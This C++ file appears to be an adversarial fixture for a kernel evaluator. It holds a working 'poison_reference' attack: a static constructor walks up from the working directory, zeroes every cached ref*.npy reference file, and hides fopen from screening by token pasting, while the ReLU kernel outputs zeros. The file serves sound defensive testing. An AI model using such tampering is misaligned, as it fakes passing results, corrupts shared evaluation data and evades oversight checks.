// Adversarial fixture (attack class: poison_reference): the evaluator must reject this kernel.
//
// Attack: the reference outputs are files in the harness's cache (<cache>/trials/<xx>/<key>/ref*.npy),
// read by the verifier after the runner exits. From a static constructor the kernel walks up from
// its working directory (../, ../../, ... 8 levels) to every trials/ directory and overwrites the
// data of every ref*.npy there with zeros (the .npy header is kept, so the files still load), then
// outputs zeros itself. The references it checks against are then zeros too, and so are those of
// every later run of any task in that cache (a zero-output kernel passes everything).
// Harmless by design: only caches reached by walking up from the runner's directory are touched
// (the cache of the run itself), never $HOME/.cache or /root/.cache unless the run uses them.
// Marker: /tmp/mk-attack-poison_reference.marker ("zeroed N reference files").
// Success for the attacker: correctness (and speed) pass with zero outputs; the marker exists and the
// cache's ref*.npy are all zeros. Blocked: the cache is out of reach or read-only: "wrong output".
// Screen evasion: fopen through a pasted name, directories listed with glob(3).
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>
#include <glob.h>
#include "backend/cpu/CPUBackend.hpp"

#define MK_CAT(a, b) a##b
#define MK_FOPEN MK_CAT(fo, pen)

namespace {

// Overwrites the data of one .npy with zero bytes, keeping its header; true when done.
bool zeroNpy(const char* path) {
    std::FILE* f = MK_FOPEN(path, "r+b");
    if (!f) return false;
    unsigned char head[12];
    long offset = -1;
    if (std::fread(head, 1, 12, f) == 12 && std::memcmp(head, "\x93NUMPY", 6) == 0)
        offset = head[6] == 1 ? 10 + (head[8] | head[9] << 8)
                              : 12 + (long)(head[8] | head[9] << 8 | head[10] << 16 | (unsigned long)head[11] << 24);
    bool ok = false;
    if (offset > 0 && std::fseek(f, 0, SEEK_END) == 0) {
        long size = std::ftell(f);
        if (size > offset && std::fseek(f, offset, SEEK_SET) == 0) {
            static const char zeros[4096] = {0};
            long left = size - offset;
            ok = true;
            while (left > 0 && ok) {
                size_t chunk = left > (long)sizeof zeros ? sizeof zeros : (size_t)left;
                ok = std::fwrite(zeros, 1, chunk, f) == chunk;
                left -= (long)chunk;
            }
        }
    }
    return std::fclose(f) == 0 && ok;
}

__attribute__((constructor)) void mkPoison() {
    int zeroed = 0;
    std::string up;
    for (int k = 0; k < 8; ++k) {
        up += "../";
        glob_t g{};
        if (glob((up + "trials/*/*/ref*.npy").c_str(), 0, nullptr, &g) == 0)
            for (size_t i = 0; i < g.gl_pathc; ++i) zeroed += zeroNpy(g.gl_pathv[i]);
        globfree(&g);
    }
    if (zeroed)
        if (std::FILE* f = MK_FOPEN("/tmp/mk-attack-poison_reference.marker", "ab")) {
            std::fprintf(f, "zeroed %d reference files\n", zeroed);
            std::fclose(f);
        }
}

} // namespace

namespace MNN {
class AttackPoisonReferenceRelu : public Execution {
public:
    using Execution::Execution;
    ErrorCode onExecute(const std::vector<Tensor*>&, const std::vector<Tensor*>& outputs) override {
        std::memset(outputs[0]->host<float>(), 0, outputs[0]->size());  // matches only poisoned references
        return NO_ERROR;
    }
};
struct AttackPoisonReferenceReluCreator : CPUBackend::Creator {
    Execution* onCreate(const std::vector<Tensor*>&, const std::vector<Tensor*>&, const MNN::Op*,
                        Backend* backend) const override {
        return new AttackPoisonReferenceRelu(backend);
    }
};
REGISTER_CPU_OP_CREATOR(AttackPoisonReferenceReluCreator, OpType_Relu);
} // namespace MNN
